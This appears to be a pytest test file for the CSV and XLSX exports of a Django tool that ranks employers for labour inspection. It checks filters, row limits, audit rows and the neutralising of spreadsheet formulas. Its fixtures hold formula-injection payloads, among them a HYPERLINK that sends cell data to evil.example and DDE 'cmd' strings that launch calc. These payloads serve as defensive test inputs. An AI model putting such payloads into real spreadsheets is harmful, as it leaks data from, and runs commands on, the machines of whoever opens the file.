"""CSV and XLSX exports: the page's rows and filters, formulas neutralised, a limit, an audit row."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.urls import reverse

from tests.workspace.support import OFFENCE, inspect, publish_run
from workspace import exports
from workspace.models import ListExport

LIST = reverse("workspace:ranked_list")


def export(client, format: str, query: dict | None = None):
    return client.get(reverse("workspace:ranked_list_export", args=[format]), query or {})


def csv_rows(response) -> list[list[str]]:
    body = response.content
    assert body.startswith(b"\xef\xbb\xbf")  # the UTF-8 BOM, so that Excel reads UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_rows(response) -> list[list[object]]:
    book = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
    return [list(row) for row in book.worksheets[0].iter_rows(values_only=True)]


HEADER = [
    "Rank",
    "Band",
    "Percentile",
    "Score",
    "Enterprise number",
    "Name",
    "Sub-region",
    "Size",
    "Legal form",
    "Strongest reason",
    "Last inspection",
    "The list's offence found at the last inspection",
]


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_export_holds_the_filtered_rows_in_rank_order(ranked, logged_in, inspector, format) -> None:
    inspect(ranked.employer(2), dt.date(2026, 4, 1), found=True, offence=OFFENCE)
    query = {"region": "BE2", "band": ["1", "2", "3"], "size_class": ["2"]}
    expected = [s for s in ranked.scores if s.subregion_id in ("BE211", "BE241") and s.band <= 3 and s.size_class == 2]
    inspect(expected[-1].employer, dt.date(2026, 5, 1), found=True)  # undeclared work: not the list's offence

    response = export(logged_in, format, query)

    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="miningwatch-cleaning-bogus_self_employment-')
    assert disposition.endswith(f'.{format}"')
    rows = csv_rows(response) if format == "csv" else xlsx_rows(response)
    assert rows[0] == HEADER
    body = rows[1:]
    assert [int(row[0]) for row in body] == [s.rank for s in expected]
    assert [row[4] for row in body] == [s.employer.enterprise_number for s in expected]
    first = body[0]
    assert first[1] == "red" and first[5] == ranked.employer(2).name and first[6] == "Halle-Vilvoorde"
    assert first[7] == "10 to 49 workers" and first[8] == "NV"
    assert first[9] == "wage per FTE 38 % below the sector median"
    assert [str(v) for v in first[10:]] == ["2026-04-01", "yes"]
    assert [str(v) for v in body[1][10:]] in (["", ""], ["None", "None"])  # never inspected
    assert [str(v) for v in body[-1][10:]] == ["2026-05-01", "not checked"]

    # The page with the same filters shows the same rows, and one audit row was written.
    page = logged_in.get(LIST, query).context["page"]
    assert [s.rank for s in page.rows] == [int(row[0]) for row in body]
    record = ListExport.objects.get()
    assert (record.user, record.format, record.rows) == (inspector, format, len(expected))
    assert record.filters["region"] == ["BE2"] and record.filters["band"] == ["1", "2", "3"]
    assert record.filters["sector"] == ["cleaning"]  # the defaults the page used, too


def test_export_ignores_the_page_keys_and_holds_every_matching_row(ranked, logged_in) -> None:
    response = export(logged_in, "csv", {"after": "50", "page": "last"})
    assert [int(row[0]) for row in csv_rows(response)[1:]] == list(range(1, 121))
    assert "after" not in ListExport.objects.get().filters


def test_export_of_a_search(ranked, logged_in) -> None:
    number = ranked.employer(9).enterprise_number
    rows = csv_rows(export(logged_in, "csv", {"q": f"BE {number[:4]}.{number[4:7]}.{number[7:]}"}))
    assert [row[0] for row in rows[1:]] == ["9"]


DANGEROUS = {
    1: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    2: "+32 2 123 45 67",
    3: "-2+3+cmd|' /C calc'!A0",
    4: "@SUM(1+1)*cmd|' /C calc'!A0",
    5: "\tTabbed",
    6: "Plain & Simple BV",
}


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_cells_that_look_like_formulas_are_neutralised(logged_in, format) -> None:
    publish_run(6, names=DANGEROUS)
    response = export(logged_in, format)
    rows = (csv_rows(response) if format == "csv" else xlsx_rows(response))[1:]
    names = [row[5] for row in rows]
    assert names == ["'" + DANGEROUS[rank] for rank in range(1, 6)] + ["Plain & Simple BV"]
    if format == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        cells = [row[5] for row in book.worksheets[0].iter_rows(min_row=2)]
        assert all(cell.data_type == "s" for cell in cells)  # strings, no formula among them


def test_cell_safe_leaves_numbers_and_plain_text_alone() -> None:
    assert exports.cell_safe(-3) == -3
    assert exports.cell_safe(-0.5) == -0.5
    assert exports.cell_safe("Janssens") == "Janssens"
    assert exports.cell_safe("=1+1") == "'=1+1"
    assert exports.cell_safe("\r=1") == "'\r=1"


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_exports_past_the_limit_are_refused_and_not_recorded(ranked, logged_in, monkeypatch, format) -> None:
    monkeypatch.setattr(exports, "EXPORT_MAX_ROWS", 30)

    response = export(logged_in, format, {"region": "BE2"})  # 80 employers

    assert response.status_code == 302
    assert response["Location"].startswith(LIST) and "region=BE2" in response["Location"]
    page = logged_in.get(response["Location"])
    assert "80 employers match: an export holds at most 30. Narrow the filters" in page.content.decode()
    assert not ListExport.objects.exists()

    allowed = export(logged_in, format, {"region": "BE3", "band": ["4"]})  # 24 employers
    assert allowed.status_code == 200
    assert ListExport.objects.get().rows == 24


@pytest.mark.parametrize("query", [{"band": "9"}, {"sector": "xx"}, {"q": "x" * 101}, {"size_class": "abc"}])
def test_exports_with_bad_filters_are_refused_with_a_message(ranked, logged_in, query) -> None:
    response = export(logged_in, "csv", query)
    assert response.status_code == 302
    page = logged_in.get(response["Location"])
    assert "The filters are not valid; nothing was exported." in page.content.decode()
    assert not ListExport.objects.exists()


def test_export_without_scores_is_refused(logged_in) -> None:
    response = export(logged_in, "xlsx")
    assert response.status_code == 302
    assert "There are no scores for this sector and offence yet; nothing was exported." in (
        logged_in.get(response["Location"]).content.decode()
    )
    assert not ListExport.objects.exists()


@pytest.mark.parametrize("format", ["pdf", "csv.exe", "CSV", ""])
def test_unknown_export_formats_are_not_found(ranked, logged_in, format) -> None:
    url = reverse("workspace:ranked_list_export", args=["csv"]).replace(".csv", f".{format}")
    assert logged_in.get(url).status_code == 404
    assert not ListExport.objects.exists()


def test_the_list_links_to_the_exports_with_its_filters(ranked, logged_in) -> None:
    html = logged_in.get(LIST, {"region": "BE2", "band": ["1", "2"], "after": "3"}).content.decode()
    assert f'href="{reverse("workspace:ranked_list_export", args=["csv"])}?region=BE2&amp;band=1&amp;band=2"' in html
    assert f'href="{reverse("workspace:ranked_list_export", args=["xlsx"])}?region=BE2&amp;band=1&amp;band=2"' in html


@pytest.mark.parametrize("format", ["csv", "xlsx"])
@pytest.mark.parametrize("raw", ["q=%25", "q=_", "q=-", "q=%26", "q=%27", "q=%5C", "q=...", "q=%ff%fe"])
def test_exports_of_a_search_without_a_letter_or_digit_are_refused(ranked, logged_in, format, raw) -> None:
    url = reverse("workspace:ranked_list_export", args=[format])
    response = logged_in.get(f"{url}?{raw}")
    assert response.status_code == 302
    assert "The filters are not valid; nothing was exported." in logged_in.get(response["Location"]).content.decode()
    assert not ListExport.objects.exists()


# Every start OWASP lists as making a spreadsheet read a cell as a formula.
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\n"]


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_cell_safe_neutralises_every_formula_start(start) -> None:
    assert exports.cell_safe(f"{start}HYPERLINK(1)") == f"'{start}HYPERLINK(1)"


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_a_name_that_starts_with_a_line_feed_is_neutralised(logged_in, format) -> None:
    publish_run(2, names={1: '\n=HYPERLINK("http://evil.example/?"&A1,"Click")'})
    response = export(logged_in, format)
    names = [row[5] for row in (csv_rows(response) if format == "csv" else xlsx_rows(response))[1:]]
    assert names[0] == '\'\n=HYPERLINK("http://evil.example/?"&A1,"Click")'


# Control characters PostgreSQL keeps in a name (an import, the admin) but XML cannot carry.
CONTROLS = {1: "Vertical\x0btab BV", 2: "\x0b=1+1", 3: "\x01\x02@SUM(1)", 4: "Form\x0cfeed\x1f NV"}


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_control_characters_in_names_are_dropped_before_the_formula_check(logged_in, format) -> None:
    publish_run(4, names=CONTROLS)
    response = export(logged_in, format)
    assert response.status_code == 200
    names = [row[5] for row in (csv_rows(response) if format == "csv" else xlsx_rows(response))[1:]]
    # Dropped first, so that "\x0b=1+1" cannot become "=1+1" once a spreadsheet drops it.
    assert names == ["Verticaltab BV", "'=1+1", "'@SUM(1)", "Formfeed NV"]


def test_an_export_records_the_filters_and_nothing_else_of_the_query_string(ranked, logged_in) -> None:
    response = export(logged_in, "csv", {"region": "BE2", "search": "x", "utm_source": "<x>"})
    assert response.status_code == 200
    expected = {"sector": ["cleaning"], "offence": ["bogus_self_employment"], "region": ["BE2"]}
    assert ListExport.objects.get().filters == expected
